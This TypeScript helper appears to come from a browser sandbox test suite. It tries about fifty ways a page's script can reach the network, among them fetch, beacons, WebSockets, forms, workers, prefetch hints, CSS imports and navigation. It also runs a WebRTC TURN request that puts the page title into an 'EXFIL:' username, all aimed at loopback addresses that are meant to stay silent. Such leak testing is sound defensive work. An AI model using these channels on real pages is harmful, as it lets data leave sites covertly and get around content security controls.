/** Addresses on loopback that are to hear nothing. */
export interface Outside {
  /** `host:port` of an HTTP server. */
  readonly http: string;
  /** `host:port` of a TURN server, UDP and TCP. */
  readonly turn: string;
  /** A domain whose names are not to be asked for. */
  readonly domain: string;
}

/**
 * Tries every way out of a page that its own script has, each to a path of its own on `outside`. Runs in the page, so it
 * uses nothing from outside its body. Resolves with the names of the ways once all have failed, or had their time: half a second, WebRTC 2 s more.
 */
export async function tryEveryWayOut({ http, turn, domain }: Outside): Promise<readonly string[]> {
  const base = `http://${http}`;
  const element = (tag: string, attributes: Record<string, string>, inner = ''): void => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    made.innerHTML = inner;
    document.body.append(made);
  };
  const link =
    (rel: string, more: Record<string, string> = {}) =>
    (url: string) => {
      const made = document.createElement('link');
      for (const [name, value] of Object.entries({ rel, href: url, ...more }))
        made.setAttribute(name, value);
      document.head.append(made);
    };
  const style = (text: (url: string) => string) => (url: string) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(text(url));
    document.adoptedStyleSheets.push(sheet);
    element('style', {}, text(url));
  };
  const script = (type: string, text: (url: string) => string) => (url: string) => {
    const made = document.createElement('script');
    made.type = type;
    made.textContent = text(url);
    document.head.append(made);
  };
  const fromWorker = (text: string): Worker =>
    new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  const click = (attributes: Record<string, string>): void => {
    const made = document.createElement('a');
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
    made.click();
  };

  const ways: Record<string, (url: string) => unknown> = {
    image: (url) => (new Image().src = url),
    'svg-image': (url) => {
      element('div', {}, `<svg><image href="${url}"/></svg>`);
    },
    srcset: (url) => {
      element('img', { srcset: `${url} 1x` });
    },
    fetch: (url) => fetch(url, { mode: 'no-cors' }),
    'fetch-keepalive': (url) =>
      fetch(url, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
    xhr: (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    },
    beacon: (url) => navigator.sendBeacon(url, 'x'),
    'event-source': (url) => new EventSource(url),
    'web-socket': (url) => new WebSocket(url.replace('http:', 'ws:')),
    'web-transport': (url) => new WebTransport(url.replace('http:', 'https:')).ready,
    preconnect: link('preconnect'),
    'dns-prefetch': () => {
      link('dns-prefetch')(`//prefetched.${domain}`);
    },
    prefetch: link('prefetch'),
    preload: link('preload', { as: 'image' }),
    modulepreload: link('modulepreload'),
    stylesheet: link('stylesheet'),
    icon: link('icon'),
    manifest: link('manifest'),
    'css-url': style((url) => `body { background-image: url("${url}") !important }`),
    'css-import': style((url) => `@import "${url}";`),
    font: async (url) => {
      style((at) => `@font-face { font-family: Way; src: url("${at}") }`)(url);
      element('p', { style: 'font-family: Way' }, 'text');
      await new FontFace('Way2', `url("${url}")`).load();
    },
    script: (url) => {
      const made = document.createElement('script');
      made.src = url;
      document.head.append(made);
    },
    import: (url) => import(/* @vite-ignore */ url),
    speculation: script('speculationrules', (url) =>
      JSON.stringify({ prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }] }),
    ),
    form: (url) => {
      element('form', { action: url, method: 'post', id: 'way' }, '<input name="x" value="y">');
      const form = document.querySelector<HTMLFormElement>('#way');
      form?.submit();
    },
    'form-in-new-window': (url) => {
      element('form', { action: url, target: '_blank', id: 'way2' });
      document.querySelector<HTMLFormElement>('#way2')?.submit();
    },
    'window-open': (url) => window.open(url),
    'link-in-new-window': (href) => {
      click({ href, target: '_blank' });
    },
    download: (href) => {
      click({ href, download: 'x' });
    },
    ping: (ping) => {
      click({ href: '#way', ping });
    },
    iframe: (src) => {
      element('iframe', { src });
    },
    'iframe-srcdoc': (url) => {
      element('iframe', { srcdoc: `<img src="${url}">` });
    },
    object: (data) => {
      element('object', { data });
    },
    embed: (src) => {
      element('embed', { src });
    },
    audio: (src) => {
      element('audio', { src, preload: 'auto' });
    },
    video: (url) => {
      element('video', { poster: url });
    },
    worker: (url) => fromWorker(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`),
    'worker-import': (url) => fromWorker(`importScripts(${JSON.stringify(url)})`),
    'shared-worker': (url) => new SharedWorker(url),
    'service-worker': (url) => navigator.serviceWorker.register(url),
    'meta-refresh': (url) => {
      const made = document.createElement('meta');
      made.httpEquiv = 'refresh';
      made.content = `0; url=${url}`;
      document.head.append(made);
    },
    navigation: (url) => {
      location.assign(url);
    },
  };

  const connection = new RTCPeerConnection({
    iceServers: [
      `turn:${turn}?transport=udp`,
      `turn:${turn}?transport=tcp`,
      `turn:turn.${domain}:3478`,
    ].map((urls) => ({
      urls,
      username: `EXFIL:${document.title}`,
      credential: 'x',
    })),
  });
  connection.createDataChannel('way');
  await connection.setLocalDescription(await connection.createOffer());

  for (const [name, way] of Object.entries(ways)) {
    const url = `${base}/${name}`;
    void Promise.resolve()
      .then(() => way(url))
      .catch(() => null);
  }
  await new Promise((resolve) => {
    setTimeout(resolve, 500);
  });
  await new Promise<void>((resolve) => {
    const over = (): void => {
      if (connection.iceGatheringState !== 'complete') return;
      connection.close();
      resolve();
    };
    connection.addEventListener('icegatheringstatechange', over);
    setTimeout(resolve, 2_000);
    over();
  });
  return Object.keys(ways);
}
